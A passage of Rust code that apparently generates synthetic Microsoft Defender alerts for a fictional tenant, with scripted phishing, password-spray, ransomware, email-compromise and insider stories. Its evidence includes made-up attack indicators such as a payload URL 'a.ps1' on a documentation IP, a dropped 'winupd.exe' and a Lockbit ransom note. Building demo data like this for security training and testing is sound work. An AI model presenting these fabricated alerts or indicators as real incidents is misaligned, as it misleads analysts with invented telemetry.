pub fn generate(config: &DemoConfig) -> Vec<GeneratedAlert> {
    let mut first = Gen::new(config);
    first.site_alerts(config);
    let dom = first.dom.clone();
    for site in 1..config.sites.max(1) {
        let mut g = Gen::for_site(config, site, &first.tenant, &dom);
        g.site_alerts(config);
        let prefix = format!("site{site:03}/");
        for mut draft in g.out {
            draft.story = format!("{prefix}{}", draft.story);
            draft.group = format!("{prefix}{}", draft.group);
            first.out.push(draft);
        }
    }
    first.finish()
}

/// An address as the host part of a URL (`[2001:db8::1]` for IPv6).
fn url_host(ip: &str) -> String {
    if ip.contains(':') {
        format!("[{ip}]")
    } else {
        ip.to_owned()
    }
}

/// Renders alerts as one Graph `alerts_v2` response page: one alert per line, keys sorted.
pub fn to_graph_page(alerts: &[GeneratedAlert]) -> String {
    let mut s = format!("{{\"@odata.context\":\"{GRAPH_CONTEXT}\",\"value\":[\n");
    for (i, a) in alerts.iter().enumerate() {
        if i > 0 {
            s.push_str(",\n");
        }
        s.push_str(&sorted_keys(&a.alert).to_string());
    }
    s.push_str("\n]}\n");
    s
}

/// Key order must not depend on serde_json's `preserve_order` feature.
fn sorted_keys(v: &Value) -> Value {
    match v {
        Value::Object(m) => {
            let mut entries: Vec<_> = m.iter().collect();
            entries.sort_by(|a, b| a.0.cmp(b.0));
            Value::Object(
                entries
                    .into_iter()
                    .map(|(k, v)| (k.clone(), sorted_keys(v)))
                    .collect(),
            )
        }
        Value::Array(a) => Value::Array(a.iter().map(sorted_keys).collect()),
        other => other.clone(),
    }
}

#[derive(Clone, Default)]
struct User {
    display: String,
    account: String,
    domain: String,
    upn: String,
    sid: String,
    aad: String,
}

#[derive(Clone)]
struct Device {
    host: String,
    mde: String,
    aad: String,
    os: (&'static str, u32, &'static str),
    rbac: (u32, &'static str),
    ip: String,
    first_seen: DateTime<Utc>,
}

#[derive(Clone, Default)]
struct FileInfo {
    name: String,
    dir: String,
    size: u64,
    signed: bool,
    /// Seeds the hashes: the same key gives the same sha1/sha256/md5.
    key: String,
}

impl FileInfo {
    fn unsigned(name: &str, dir: &str, size: u64, key: String) -> FileInfo {
        FileInfo {
            name: name.into(),
            dir: dir.into(),
            size,
            signed: false,
            key,
        }
    }
    fn path(&self) -> String {
        format!(r"{}\{}", self.dir, self.name)
    }
}

struct Mail {
    nmid: String,
    imid: String,
    subject: String,
    from: (String, String),
    sender_ip: String,
    to: String,
    url: String,
    threats: Vec<String>,
    attachments: u32,
    received: DateTime<Utc>,
}

/// Everything a story's (or a noise alert's) evidence can refer to.
#[derive(Default)]
struct Cast {
    story: String,
    group: String,
    /// Verdict of the evidence; user, mailbox and device evidence say `suspicious` at most.
    verdict: &'static str,
    user: User,
    admin: User,
    extra: Vec<User>,
    ws: usize,
    own: usize,
    ip: (String, &'static str),
    url: String,
    msg: Option<Mail>,
    msg_fix: &'static str,
    file: FileInfo,
    payload: FileInfo,
    tool: FileInfo,
    note: FileInfo,
    vendor: &'static str,
    threat: Option<(&'static str, &'static str)>,
}

impl Cast {
    fn new(story: String, verdict: &'static str) -> Cast {
        Cast {
            group: story.clone(),
            story,
            verdict,
            ..Cast::default()
        }
    }

    fn file(&self, name: &str) -> FileInfo {
        match name {
            "{file}" => self.file.clone(),
            "{payload}" => self.payload.clone(),
            "{tool}" => self.tool.clone(),
            "{note}" => self.note.clone(),
            _ => bin(name),
        }
    }

    fn fill(&self, template: &str) -> String {
        let mut s = template
            .replace("{url}", &self.url)
            .replace("{vendor}", self.vendor);
        for (key, f) in [
            ("{file}", &self.file),
            ("{payload}", &self.payload),
            ("{tool}", &self.tool),
        ] {
            s = s.replace(key, &f.path());
        }
        s
    }
}

struct Draft {
    story: String,
    group: String,
    created: DateTime<Utc>,
    id: String,
    alert: Value,
}

fn digest(s: &str) -> String {
    hex::encode(Sha256::digest(s.as_bytes()))
}

fn ts(t: DateTime<Utc>) -> String {
    format!(
        "{}.{:07}Z",
        t.format("%Y-%m-%dT%H:%M:%S"),
        t.timestamp_subsec_nanos() / 100
    )
}

fn secs(s: u64) -> Duration {
    Duration::seconds(i64::try_from(s).unwrap_or(0))
}

fn hours(h: u64) -> Duration {
    secs(h * 3600)
}

fn days(d: u64) -> Duration {
    secs(d * 86_400)
}

fn null_if_empty(s: &str) -> Value {
    if s.is_empty() {
        Value::Null
    } else {
        json!(s)
    }
}

fn bin(name: &str) -> FileInfo {
    let (dir, size) = BINARIES
        .iter()
        .find(|b| b.0 == name)
        .map_or((r"C:\Windows\System32", 102_400), |b| (b.1, b.2));
    let (name, dir, key) = (name.into(), dir.into(), format!("bin:{name}"));
    FileInfo {
        name,
        dir,
        size,
        signed: true,
        key,
    }
}

fn details(f: &FileInfo, hashes: bool) -> Value {
    let h = |alg: &str, len: usize| match hashes {
        true => json!(digest(&format!("{alg}:{}", f.key))[..len]),
        false => Value::Null,
    };
    let publisher = f.signed.then_some("Microsoft Corporation");
    json!({"fileName": f.name, "filePath": f.dir, "fileSize": f.size, "filePublisher": publisher,
        "sha1": h("sha1", 40), "sha256": h("sha256", 64), "md5": h("md5", 32), "sha256Ac": null,
        "signer": publisher, "issuer": f.signed.then_some("Microsoft Windows Production PCA 2011")})
}

/// An evidence object; `createdDateTime` is added when the alert is emitted.
fn ev(kind: &str, verdict: &str, role: &str, fields: Value) -> Value {
    let roles: Vec<&str> = Some(role).filter(|r| !r.is_empty()).into_iter().collect();
    let base = json!({"@odata.type": format!("#microsoft.graph.security.{kind}"),
        "verdict": verdict, "remediationStatus": "none", "remediationStatusDetails": null,
        "roles": roles, "detailedRoles": [], "tags": []});
    merged(base, fields)
}

/// `a` with the fields of `b` added (both objects).
fn merged(mut a: Value, b: Value) -> Value {
    if let (Value::Object(m), Value::Object(f)) = (&mut a, b) {
        m.extend(f);
    }
    a
}

/// 32 hex digits as a GUID: 8-4-4-4-12.
fn dashed(h: &str) -> String {
    let mut s = h[..32].to_string();
    for i in [20, 16, 12, 8] {
        s.insert(i, '-');
    }
    s
}

fn set(mut v: Value, key: &str, value: &str) -> Value {
    if let Value::Object(m) = &mut v {
        m.insert(key.into(), json!(value));
    }
    v
}

fn account(u: &User, f: Flavor) -> Value {
    let (cloud, onprem) = (matches!(f, Flavor::Cloud), matches!(f, Flavor::OnPrem));
    json!({"accountName": u.account, "domainName": if cloud { DOMAIN } else { &u.domain },
        "userSid": if cloud { Value::Null } else { json!(u.sid) },
        "azureAdUserId": if onprem { Value::Null } else { null_if_empty(&u.aad) },
        "userPrincipalName": if onprem { Value::Null } else { null_if_empty(&u.upn) },
        "displayName": u.display})
}

fn user_ev(u: &User, f: Flavor, verdict: &str, role: &str) -> Value {
    ev(
        "userEvidence",
        verdict,
        role,
        json!({"userAccount": account(u, f)}),
    )
}

fn device_ev(d: &Device, logged: &[&User], verdict: &str, role: &str) -> Value {
    let risk = match verdict {
        "malicious" => "high",
        "suspicious" => "medium",
        _ => "low",
    };
    let h = digest(&d.host);
    let users: Vec<Value> = logged
        .iter()
        .map(|u| json!({"accountName": u.account, "domainName": u.domain}))
        .collect();
    let fields = json!({"mdeDeviceId": d.mde, "azureAdDeviceId": d.aad, "hostName": d.host,
        "deviceDnsName": format!("{}.{AD_DNS}", d.host.to_lowercase()), "ntDomain": NT_DOMAIN,
        "dnsDomain": AD_DNS, "osPlatform": d.os.0, "osBuild": d.os.1, "version": d.os.2,
        "healthStatus": "active", "riskScore": risk, "rbacGroupId": d.rbac.0,
        "rbacGroupName": d.rbac.1, "onboardingStatus": "onboarded", "defenderAvStatus": "updated",
        "firstSeenDateTime": ts(d.first_seen), "vmMetadata": null, "loggedOnUsers": users,
        "ipInterfaces": [d.ip, format!("fe80::{}:{}", &h[..4], &h[4..8]), "127.0.0.1", "::1"]});
    ev("deviceEvidence", verdict, role, fields)
}

fn ip_ev(ip: &str, cc: &str, verdict: &str, role: &str) -> Value {
    ev(
        "ipEvidence",
        verdict,
        role,
        json!({"ipAddress": ip, "countryLetterCode": cc}),
    )
}

fn app_ev(app: (u64, &str)) -> Value {
    let f = json!({"appId": app.0, "displayName": app.1, "instanceId": 0,
        "instanceName": app.1, "saasAppId": app.0});
    ev("cloudApplicationEvidence", "unknown", "", f)
}

fn mailbox_ev(u: &User, verdict: &str) -> Value {
    let f = json!({"displayName": u.display, "primaryAddress": u.upn, "upn": u.upn,
        "userAccount": account(u, Flavor::Cloud)});
    ev("mailboxEvidence", verdict, "", f)
}

fn msg_ev(m: &Mail, verdict: &str, remediation: &str) -> Value {
    let domain = m.from.0.split('@').nth(1).unwrap_or_default();
    let sender = json!({"displayName": m.from.1, "emailAddress": m.from.0, "domainName": domain});
    let methods: &[&str] = if m.threats.is_empty() {
        &[]
    } else {
        &["URL detonation reputation"]
    };
    let f = json!({"networkMessageId": m.nmid, "internetMessageId": m.imid, "subject": m.subject,
        "language": "en", "senderIp": m.sender_ip, "recipientEmailAddress": m.to,
        "antiSpamDirection": "inbound", "deliveryAction": "delivered", "deliveryLocation": "inbox",
        "urn": format!("urn:MailEntity:{}", &digest(&m.nmid)[..32]), "threats": m.threats,
        "threatDetectionMethods": methods, "urls": [m.url], "urlCount": 1,
        "attachmentsCount": m.attachments, "receivedDateTime": ts(m.received),
        "p1Sender": sender, "p2Sender": sender});
    set(
        ev("analyzedMessageEvidence", verdict, "", f),
        "remediationStatus",
        remediation,
    )
}

/// `status`: `detected`, `prevented` (blocked before it ran) or `remediated` (removed after).
fn file_ev(f: &FileInfo, d: &Device, verdict: &str, role: &str, status: &str) -> Value {
    let detection = if status == "prevented" {
        "prevented"
    } else {
        "detected"
    };
    let fields = json!({"fileDetails": details(f, true), "mdeDeviceId": d.mde,
        "detectionStatus": detection});
    let remediation = if status == "detected" { "none" } else { status };
    set(
        ev("fileEvidence", verdict, role, fields),
        "remediationStatus",
        remediation,
    )
}

struct Gen {
    rng: ChaCha8Rng,
    seed: u64,
    start: DateTime<Utc>,
    tenant: String,
    users: Vec<User>,
    devices: Vec<Device>,
    system: User,
    msol: User,
    /// Entity keys held by a story or a noise alert over a time window.
    busy: Vec<(String, DateTime<Utc>, DateTime<Utc>)>,
    out: Vec<Draft>,
    /// The site this generator writes (0: the head office, as in the shipped demo).
    site: usize,
    /// The domain SID (`S-1-5-21-a-b-c`), shared by every site.
    dom: String,
}

type Window = (DateTime<Utc>, DateTime<Utc>);

impl Gen {
    fn new(c: &DemoConfig) -> Gen {
        let system = User {
            display: "System".into(),
            account: "SYSTEM".into(),
            domain: "NT AUTHORITY".into(),
            sid: "S-1-5-18".into(),
            ..User::default()
        };
        let rng = ChaCha8Rng::seed_from_u64(c.seed);
        let (seed, start, msol) = (c.seed, c.start, User::default());
        let (tenant, users, devices, busy, out) = (String::new(), vec![], vec![], vec![], vec![]);
        let mut g = Gen {
            rng,
            seed,
            start,
            tenant,
            users,
            devices,
            system,
            msol,
            busy,
            out,
            site: 0,
            dom: String::new(),
        };
        g.tenant = g.guid();
        let parts: Vec<u64> = (0..3)
            .map(|_| 1_000_000_000 + g.num(3_000_000_000))
            .collect();
        let dom = format!("S-1-5-21-{}-{}-{}", parts[0], parts[1], parts[2]);
        g.dom = dom.clone();
        let mut pairs: Vec<(usize, usize)> = (0..FIRST.len())
            .flat_map(|f| (0..LAST.len()).map(move |l| (f, l)))
            .collect();
        g.shuffle(&mut pairs);
        for (i, &(f, l)) in pairs.iter().take(80).enumerate() {
            let last = LAST[l].replace(' ', "").to_lowercase();
            let mut account = format!("{}{last}", FIRST[f][..1].to_lowercase());
            if g.users.iter().any(|u| u.account == account) {
                account.push_str(&(i % 10).to_string());
            }
            let upn = format!("{}.{last}@{DOMAIN}", FIRST[f].to_lowercase());
            let (display, domain) = (format!("{} {}", FIRST[f], LAST[l]), NT_DOMAIN.to_string());
            let (sid, aad) = (format!("{dom}-{}", 1104 + i * 3), g.guid());
            g.users.push(User {
                display,
                account,
                domain,
                upn,
                sid,
                aad,
            });
        }
        let msol = format!("MSOL_{}", g.hex(12));
        g.msol = User {
            display: "On-Premises Directory Synchronization Service Account".into(),
            upn: format!("{}@{DOMAIN}", msol.to_lowercase()),
            account: msol,
            domain: NT_DOMAIN.into(),
            sid: format!("{dom}-1103"),
            aad: g.guid(),
        };
        let mut numbers: Vec<u64> = (1000..10000).collect();
        g.shuffle(&mut numbers);
        for i in 0..N_WORKSTATIONS + SERVERS.len() {
            let (host, os, rbac, ip) = if i < N_WORKSTATIONS {
                let kind = if i % 3 == 0 { "WS" } else { "LT" };
                let os = [("Windows11", 22631, "23H2"), ("Windows10", 19045, "22H2")];
                let ip = format!(
                    "10.20.{}.{}",
                    1 + i / 10,
                    20 + (i % 10) * 20 + g.num(15) as usize
                );
                let host = format!("KRL-{kind}-{}", numbers[i]);
                (host, os[usize::from(i % 4 == 0)], (12, "Workstations"), ip)
            } else {
                let s = i - N_WORKSTATIONS;
                let rbac = if s < 2 {
                    (3, "Tier 0 - Domain Controllers")
                } else {
                    (7, "Servers")
                };
                let os = ("WindowsServer2022", 20348, "21H2");
                (
                    SERVERS[s].to_string(),
                    os,
                    rbac,
                    format!("10.10.0.{}", 10 + s),
                )
            };
            let age = days(60 + g.num(600));
            let first_seen = g.jitter(c.start - age, 86_400);
            let mde = digest(&format!("mde:{}:{host}", c.seed))[..40].to_string();
            let aad = g.guid();
            g.devices.push(Device {
                host,
                mde,
                aad,
                os,
                rbac,
                ip,
                first_seen,
            });
        }
        g
    }

    /// Another site of the same company: people and devices of its own (names, SIDs, addresses
    /// distinct from every other site's), the tenant and domain of the head office.
    fn for_site(c: &DemoConfig, site: usize, tenant: &str, dom: &str) -> Gen {
        let config = DemoConfig {
            seed: c.seed ^ (site as u64).wrapping_mul(0x9E37_79B9_7F4A_7C15),
            ..c.clone()
        };
        let mut g = Gen::new(&config);
        (g.site, g.tenant, g.dom) = (site, tenant.to_owned(), dom.to_owned());
        for (i, u) in g.users.iter_mut().enumerate() {
            u.account = format!("{}{site}", u.account);
            u.upn = u.upn.replacen('@', &format!("{site}@"), 1);
            u.sid = format!("{dom}-{}", 1104 + i * 3 + site * 10_000);
        }
        g.msol.sid = format!("{dom}-{}", 1103 + site * 10_000);
        for (i, d) in g.devices.iter_mut().enumerate() {
            d.host = format!("{}-{site:03}", d.host);
            let last = d.ip.rsplit('.').next().unwrap_or("1").to_owned();
            d.ip = if i < N_WORKSTATIONS {
                format!(
                    "10.{}.{}.{last}",
                    20 + site % 200,
                    1 + i / 10 + (site / 200) * 6
                )
            } else {
                let s = i - N_WORKSTATIONS;
                format!("10.10.{}.{}", site % 250, 10 + s + (site / 250) * 12)
            };
        }
        g
    }

    /// One site's stories and noise.
    fn site_alerts(&mut self, config: &DemoConfig) {
        self.phishing();
        self.spray();
        self.ransomware();
        self.bec();
        self.insider();
        self.commodity();
        for (i, row) in self
            .noise_plan(config.n_noise_alerts)
            .into_iter()
            .enumerate()
        {
            self.noise(i + 1, row);
        }
    }

    fn num(&mut self, n: u64) -> u64 {
        if n == 0 {
            0
        } else {
            self.rng.random_range(0..n)
        }
    }

    fn chance(&mut self, pct: u64) -> bool {
        self.num(100) < pct
    }

    fn pick<T: Copy>(&mut self, xs: &[T]) -> T {
        xs[self.num(xs.len() as u64) as usize]
    }

    fn shuffle<T>(&mut self, xs: &mut [T]) {
        for i in (1..xs.len()).rev() {
            let j = self.num(i as u64 + 1) as usize;
            xs.swap(i, j);
        }
    }

    fn hex(&mut self, n: usize) -> String {
        let mut s: String = (0..n.div_ceil(2))
            .map(|_| format!("{:02x}", self.rng.random::<u8>()))
            .collect();
        s.truncate(n);
        s
    }

    /// A random (version 4) GUID.
    fn guid(&mut self) -> String {
        let (h, variant) = (self.hex(32), self.pick(&['8', '9', 'a', 'b']));
        dashed(&format!("{}4{}{variant}{}", &h[..12], &h[13..16], &h[17..]))
    }

    /// `t` plus up to `max` seconds, at 100 ns resolution.
    fn jitter(&mut self, t: DateTime<Utc>, max: u64) -> DateTime<Utc> {
        let ticks = self.num(10_000_000) as i64;
        t + secs(self.num(max)) + Duration::nanoseconds(ticks * 100)
    }

    fn server(&self, name: &str) -> usize {
        N_WORKSTATIONS + SERVERS.iter().position(|s| *s == name).unwrap_or(0)
    }

    fn device_index(&self, c: &Cast, d: D) -> usize {
        match d {
            Ws => c.ws,
            Own => c.own,
            Fs01 => self.server("FS01"),
            App02 => self.server("APP02"),
            Bkp01 => self.server("BKP01"),
            Dc01 => self.server("DC01"),
        }
    }

    /// Picks an index in `lo..hi` whose keys are free over `window`, and holds them.
    fn claim<K: Fn(usize) -> Vec<String>>(
        &mut self,
        lo: usize,
        hi: usize,
        keys: K,
        w: Window,
    ) -> usize {
        let free =
            |g: &Gen, k: &String| !g.busy.iter().any(|b| &b.0 == k && b.1 < w.1 && w.0 < b.2);
        let mut idx = lo;
        for _ in 0..100 {
            idx = lo + self.num((hi - lo) as u64) as usize;
            if keys(idx).iter().all(|k| free(self, k)) {
                break;
            }
        }
        self.busy
            .extend(keys(idx).into_iter().map(|k| (k, w.0, w.1)));
        idx
    }

    fn claim_user(&mut self, w: Window) -> User {
        let i = self.claim(0, self.users.len(), |i| vec![format!("u{i}")], w);
        self.users[i].clone()
    }

    /// A workstation together with its primary user (user `i` uses workstation `i`).
    fn claim_ws(&mut self, w: Window) -> usize {
        self.claim(
            0,
            N_WORKSTATIONS,
            |i| vec![format!("d{i}"), format!("u{i}")],
            w,
        )
    }

    fn claim_ip(&mut self, net: &str, lo: usize, w: Window) -> String {
        let octet = self.claim(lo, 255, |i| vec![format!("ip:{net}.{i}")], w);
        if self.site == 0 {
            format!("{net}.{octet}")
        } else {
            // Documentation space has three IPv4 /24s; other sites' come from 2001:db8::/32.
            let k = match net {
                "198.51.100" => 1,
                "203.0.113" => 2,
                _ => 3,
            };
            format!("2001:db8:{:x}:{k}::{octet:x}", self.site)
        }
    }

    fn mail(
        &mut self,
        to: &User,
        from: (String, String),
        subject: String,
        url: String,
        at: DateTime<Utc>,
    ) -> Mail {
        let host = from.0.split('@').nth(1).unwrap_or(DOMAIN).to_string();
        let sender_ip = self.claim_ip("192.0.2", 10, (at - hours(14), at + hours(14)));
        let (nmid, imid) = (
            self.guid(),
            format!("<{}@mail.{host}>", self.hex(20).to_uppercase()),
        );
        let (to, threats) = (to.upn.clone(), vec![]);
        Mail {
            nmid,
            imid,
            subject,
            from,
            sender_ip,
            to,
            url,
            threats,
            attachments: 0,
            received: at,
        }
    }

    /// Turns one evidence spec into evidence objects (`Extra` gives several, a missing part none).
    fn resolve(&mut self, c: &Cast, e: E, on: usize, t: DateTime<Utc>) -> Vec<Value> {
        let v = c.verdict;
        let soft = if v == "malicious" { "suspicious" } else { v };
        let dev = &self.devices[on];
        let one = match e {
            Dev(d, role) => {
                let i = self.device_index(c, d);
                let logged: Vec<&User> = match d {
                    _ if i < N_WORKSTATIONS => vec![&self.users[i]],
                    Fs01 | App02 | Bkp01 => vec![&c.admin],
                    _ => vec![],
                };
                let verdict = if role == "destination" {
                    "unknown"
                } else {
                    soft
                };
                device_ev(&self.devices[i], &logged, verdict, role)
            }
            Acct(flavor, role) => user_ev(&c.user, flavor, soft, role),
            Admin => user_ev(&c.admin, Flavor::Full, "suspicious", "compromised"),
            Extra(flavor, role) => {
                return c
                    .extra
                    .iter()
                    .map(|u| user_ev(u, flavor, soft, role))
                    .collect()
            }
            Mailbox => mailbox_ev(&c.user, soft),
            Msg => match &c.msg {
                Some(m) => msg_ev(m, v, c.msg_fix),
                None => return vec![],
            },
            Url => ev("urlEvidence", v, "", json!({"url": c.url})),
            App(app) => app_ev(app),
            Nat(role) => ip_ev(NAT_IP, HOME_CC, "unknown", role),
            Ip(role) => ip_ev(&c.ip.0, c.ip.1, v, role),
            File("{note}", status) => file_ev(&c.note, dev, "suspicious", "created", status),
            File(name, status) => {
                let f = c.file(name);
                file_ev(&f, dev, if f.signed { soft } else { v }, "", status)
            }
            Reg(key, value) => {
                let hive = "HKEY_LOCAL_MACHINE";
                let mut f = json!({"registryHive": hive, "registryKey": c.fill(key)});
                let kind = match value {
                    None => "registryKeyEvidence",
                    Some((name, data)) => {
                        f["registryValueName"] = json!(name);
                        f["registryValue"] = json!(c.fill(data));
                        f["registryValueType"] = json!("String");
                        f["mdeDeviceId"] = json!(dev.mde);
                        "registryValueEvidence"
                    }
                };
                ev(kind, "suspicious", "", f)
            }
            Proc(image, parent, cmd, who) => {
                let image = c.file(image);
                let user = match who {
                    W::User => &c.user,
                    W::Admin => &c.admin,
                    W::System => &self.system,
                };
                let f = json!({"processCommandLine": c.fill(cmd), "processCreationDateTime": ts(t),
                    "detectionStatus": "detected", "mdeDeviceId": dev.mde,
                    "imageFile": details(&image, true), "parentProcessImageFile": details(&c.file(parent), false),
                    "userAccount": account(user, Flavor::OnPrem)});
                let verdict = if image.signed { soft } else { v };
                let mut p = ev("processEvidence", verdict, "", f);
                p["processId"] = json!(4 * (250 + self.num(5000)));
                p["parentProcessId"] = json!(4 * (100 + self.num(2000)));
                p["parentProcessCreationDateTime"] = json!(ts(t - secs(60 + self.num(7200))));
                p
            }
        };
        vec![one]
    }

    /// Builds one alert from a rule, the cast and the evidence specs.
    fn emit(&mut self, c: &Cast, step: &Step, act: DateTime<Utc>) {
        let Step(rule, _, on, tri, suffix, specs) = *step;
        let src = rule.src;
        let on = self.device_index(c, on);
        let last = self.jitter(act, 600);
        let (lo, hi) = src.delay();
        let created = self.jitter(last + secs(lo), hi - lo);
        let ev_time = ts(created + Duration::milliseconds(100 + self.num(900) as i64));
        let mut evidence = vec![];
        for &e in specs {
            evidence.extend(self.resolve(c, e, on, act));
        }
        let evidence: Vec<Value> = evidence
            .into_iter()
            .map(|e| set(e, "createdDateTime", &ev_time))
            .collect();
        // .NET ticks of the creation time, as in real MDE alert ids ("da6392…_-123").
        let ticks = (created.timestamp() + 62_135_596_800) as u64 * 10_000_000
            + u64::from(created.timestamp_subsec_nanos() / 100);
        let (prefix, provider) = match src {
            Src::Edr | Src::Av => ("", format!("da{ticks}_{}", self.rng.random::<i32>())),
            Src::Xdr => ("", format!("ra{ticks}_{}", self.rng.random::<i32>())),
            Src::Mdo => ("fa", self.guid()),
            Src::Mdi => ("aa", self.guid()),
            Src::Mdca => ("ca", self.hex(24)),
            Src::Idp => ("ad", self.hex(64)),
        };
        let id = format!("{prefix}{provider}");
        let triage = self.triage(tri, src, created);
        let threat = c.threat.filter(|_| rule.title.contains("{t}"));
        let detector = dashed(&digest(&format!("detector:{}", rule.title)));
        let alert = json!({"@odata.type": "#microsoft.graph.security.alert", "id": id,
            "providerAlertId": provider, "tenantId": self.tenant,
            "alertWebUrl": format!("https://security.microsoft.com/alerts/{id}?tid={}", self.tenant),
            "title": rule.title.replace("{t}", threat.map_or("", |t| t.1)),
            "description": rule.description, "recommendedActions": src.actions(),
            "severity": rule.severity,
            "category": rule.category, "mitreTechniques": rule.mitre, "serviceSource": src.service(),
            "detectionSource": src.detection(), "productName": src.product(), "detectorId": detector,
            "actorDisplayName": null,
            "threatDisplayName": threat.map(|t| t.0), "threatFamilyName": threat.map(|t| t.1),
            "alertPolicyId": null, "additionalData": null, "systemTags": [],
            "createdDateTime": ts(created), "firstActivityDateTime": ts(act),
            "lastActivityDateTime": ts(last), "evidence": evidence});
        let (story, group) = (c.story.clone(), format!("{}{suffix}", c.group));
        let alert = merged(alert, triage);
        self.out.push(Draft {
            story,
            group,
            created,
            id,
            alert,
        });
    }

    /// Status, classification, assignment and investigation as the SOC left them.
    fn triage(&mut self, tri: Tri, src: Src, created: DateTime<Utc>) -> Value {
        let (analyst, name) = self.pick(&ANALYSTS);
        let inv = |state| {
            if src.automated() {
                state
            } else {
                "unsupportedAlertType"
            }
        };
        match tri {
            Tri::New => {
                let state = inv(self.pick(&["queued", "running", "benign", "pendingApproval"]));
                let updated = ts(created + secs(30 + self.num(900)));
                json!({"status": "new", "classification": null, "determination": null,
                    "assignedTo": null, "investigationState": state, "lastUpdateDateTime": updated,
                    "resolvedDateTime": null, "comments": []})
            }
            Tri::Working => {
                let updated = ts(created + secs(1800 + self.num(6 * 3600)));
                json!({"status": "inProgress", "classification": null, "determination": null,
                    "assignedTo": analyst, "investigationState": inv("running"),
                    "lastUpdateDateTime": updated, "resolvedDateTime": null, "comments": []})
            }
            Tri::Done(class, det) => {
                let resolved = created + secs(1200 + self.num(40 * 3600));
                let tp = class == "truePositive";
                let who = if src.automated() && tp && self.chance(50) {
                    "Automation"
                } else {
                    analyst
                };
                let comments = match !tp && self.chance(40) {
                    true => vec![
                        json!({"comment": self.pick(&COMMENTS), "createdByDisplayName": name,
                        "createdDateTime": ts(resolved - secs(30))}),
                    ],
                    false => vec![],
                };
                let state = inv(if tp {
                    "successfullyRemediated"
                } else {
                    "benign"
                });
                json!({"status": "resolved", "classification": class, "determination": det,
                    "assignedTo": who, "investigationState": state, "comments": comments,
                    "lastUpdateDateTime": ts(resolved), "resolvedDateTime": ts(resolved)})
            }
        }
    }

    fn play(&mut self, c: &Cast, t0: DateTime<Utc>, steps: &[Step]) {
        for step in steps {
            self.emit(c, step, t0 + secs(step.1));
        }
    }

    /// Sorts, then numbers incidents in order of their first alert, with gaps as in a real tenant.
    fn finish(mut self) -> Vec<GeneratedAlert> {
        let mut drafts = std::mem::take(&mut self.out);
        drafts.sort_by(|a, b| (a.created, &a.id).cmp(&(b.created, &b.id)));
        let mut incidents: BTreeMap<String, u64> = BTreeMap::new();
        let mut next = 11_000 + self.num(4_000);
        let mut alerts = vec![];
        for mut d in drafts {
            let inc = match incidents.get(&d.group) {
                Some(n) => *n,
                None => {
                    next += 1 + self.num(4);
                    incidents.insert(d.group.clone(), next);
                    next
                }
            };
            let url = format!(
                "https://security.microsoft.com/incidents/{inc}?tid={}",
                self.tenant
            );
            d.alert["incidentId"] = json!(inc.to_string());
            d.alert["incidentWebUrl"] = json!(url);
            alerts.push(GeneratedAlert {
                story: d.story,
                alert: d.alert,
            });
        }
        alerts
    }

    fn phishing(&mut self) {
        let day = days(6 + self.num(2));
        let t0 = self.jitter(self.start + day + hours(8), 5400);
        let window = (t0 - days(7), t0 + days(9));
        let mut c = Cast::new("phishing-ato".into(), "malicious");
        c.user = self.claim_user(window);
        c.ip = (
            self.claim_ip("198.51.100", 2, window),
            self.pick(&["NG", "BR", "RO", "VN"]),
        );
        c.url = format!("https://secure-docshare.example/s/{}", self.hex(10));
        let from = (
            "accounts@secure-docshare.example".to_string(),
            "Accounts Payable".to_string(),
        );
        let subject = format!(
            "Action required: invoice {} awaiting signature",
            40_000 + self.num(9_999)
        );
        let mut msg = self.mail(&c.user, from, subject, c.url.clone(), t0);
        msg.threats = vec!["Phish".into()];
        self.busy
            .push((format!("ip:{}", msg.sender_ip), window.0, window.1));
        (c.msg, c.msg_fix) = (Some(msg), "remediated");
        self.play(&c, t0, &PHISHING);
    }

    fn spray(&mut self) {
        let day = days(11 + self.num(3));
        let t0 = self.jitter(self.start + day + hours(2), 3600);
        let window = (t0 - days(7), t0 + days(8));
        let mut c = Cast::new("password-spray".into(), "malicious");
        c.ip = (
            self.claim_ip("203.0.113", 2, window),
            self.pick(&["RU", "CN", "KP", "IR"]),
        );
        c.extra = (0..14).map(|_| self.claim_user(window)).collect();
        c.user = c.extra[0].clone();
        self.play(&c, t0, &SPRAY);
    }

    fn ransomware(&mut self) {
        let day = days(18 + self.num(3));
        let t0 = self.jitter(self.start + day + hours(13), 7200);
        let window = (t0 - days(7), t0 + days(8));
        let mut c = Cast::new("ransomware".into(), "malicious");
        c.ws = self.claim_ws(window);
        for name in ["FS01", "APP02", "BKP01"] {
            self.busy
                .push((format!("d{}", self.server(name)), window.0, window.1));
        }
        c.user = self.users[c.ws].clone();
        // The stolen account is the second, admin account of one of the IT staff.
        let it = self.num(self.users.len() as u64) as usize;
        let it = self.users[it].clone();
        let dom = it.sid.rsplit_once('-').map_or("", |p| p.0).to_string();
        c.admin = User {
            display: format!("ADM {}", it.display),
            account: format!("adm-{}", it.account),
            upn: format!("adm-{}@{DOMAIN}", it.account),
            sid: format!(
                "{dom}-{}",
                5000 + self.site * 10_000 + self.num(400) as usize
            ),
            aad: self.guid(),
            ..it
        };
        c.ip = (self.claim_ip("198.51.100", 2, window), "US");
        c.url = format!("http://{}/a.ps1", url_host(&c.ip.0));
        // Each intrusion drops its payload in a folder of its own (the head office's is the
        // shipped demo's `WinUpd`).
        let folder = match self.site {
            0 => r"C:\ProgramData\WinUpd".to_owned(),
            _ => format!(r"C:\ProgramData\{}", self.hex(8)),
        };
        let key = |name: &str| format!("{}:{name}", self.seed);
        c.payload = FileInfo::unsigned("winupd.exe", &folder, 1_482_752, key("payload"));
        let temp = format!(r"C:\Users\{}\AppData\Local\Temp", c.user.account);
        c.tool = FileInfo::unsigned("m64.exe", &temp, 1_250_056, key("tool"));
        c.note = FileInfo::unsigned("Restore-My-Files.txt", r"D:\Shares", 1_871, key("note"));
        c.threat = Some(("Ransom:Win32/Lockbit.AA!MTB", "Lockbit"));
        self.play(&c, t0, &RANSOMWARE);
    }

    fn bec(&mut self) {
        let day = days(2 + self.num(2));
        let t0 = self.jitter(self.start + day + hours(9), 7200);
        let window = (t0 - days(7), t0 + days(8));
        let mut c = Cast::new("bec".into(), "malicious");
        c.user = self.claim_user(window);
        c.ip = (
            self.claim_ip("198.51.100", 2, window),
            self.pick(&["NG", "GH", "ZA", "AE"]),
        );
        self.play(&c, t0, &BEC);
    }

    fn insider(&mut self) {
        let day = days(23 + self.num(3));
        let t0 = self.jitter(self.start + day + hours(16), 5400);
        let window = (t0 - days(7), t0 + days(6));
        let mut c = Cast::new("insider-exfiltration".into(), "suspicious");
        c.ws = self.claim_ws(window);
        c.user = self.users[c.ws].clone();
        self.play(&c, t0, &INSIDER);
    }

    fn commodity(&mut self) {
